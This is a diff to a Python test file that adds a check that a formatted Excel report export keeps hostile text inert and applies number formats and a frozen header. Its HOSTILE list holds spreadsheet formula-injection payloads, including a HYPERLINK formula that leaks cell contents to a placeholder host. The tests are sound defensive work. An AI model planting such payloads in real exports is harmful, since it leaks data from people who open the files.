@@ -11,7 +11,7 @@ import pandas as pd
 import pytest
 
 from monitor.cli import main
-from monitor.exports import csv_text, xlsx_bytes
+from monitor.exports import csv_text, report_xlsx_bytes, xlsx_bytes
 from tests.imports.conftest import csv_bytes
 
 HOSTILE = ['=HYPERLINK("http://x/?"&A1,"click")', "+1+2", "-3-4", "@SUM(A1)", "\tx", "\rx"]
@@ -38,6 +38,28 @@ def test_hostile_text_is_inert_and_numbers_stay_numbers() -> None:
     assert read == [t.replace("\r", "\n") for t in HOSTILE]  # the text itself (a bare CR may read back as LF)
     assert sheet.cell(2, 2).value == -9.5
     assert sheet.cell(2, 2).data_type == "n"
+
+
+def test_a_formatted_report_keeps_text_inert_and_formats_its_numbers() -> None:
+    """Title and period rows above a frozen header; hostile text stays text, numbers get their formats."""
+    frame = pd.DataFrame({"指标": HOSTILE[:3], "数值": [1234.567, 2.0, None], "人数": [19000, 5, 7]})
+    data = report_xlsx_bytes(
+        "表",
+        frame,
+        title=HOSTILE[0],
+        subtitle="报告期：2021年1-6月",
+        formats={"数值": ["#,##0.00", "0.0", "#,##0.00"], "人数": "#,##0"},
+        widths=[20, 12, 12],
+    )
+    assert formula_cells(data) == []
+    sheet = openpyxl.load_workbook(io.BytesIO(data))["表"]
+    assert (sheet["A1"].value, sheet["A2"].value) == (HOSTILE[0], "报告期：2021年1-6月")
+    assert [c.value for c in sheet[3]] == ["指标", "数值", "人数"]
+    assert sheet.freeze_panes == "B4"
+    assert (sheet["A4"].value, sheet["A5"].value) == (HOSTILE[0], HOSTILE[1])
+    assert (sheet["B4"].value, sheet["B4"].number_format, sheet["B5"].number_format) == (1234.567, "#,##0.00", "0.0")
+    assert (sheet["C4"].value, sheet["C4"].number_format) == (19000, "#,##0")
+    assert sheet.column_dimensions["A"].width == 20
 
 
 @pytest.fixture
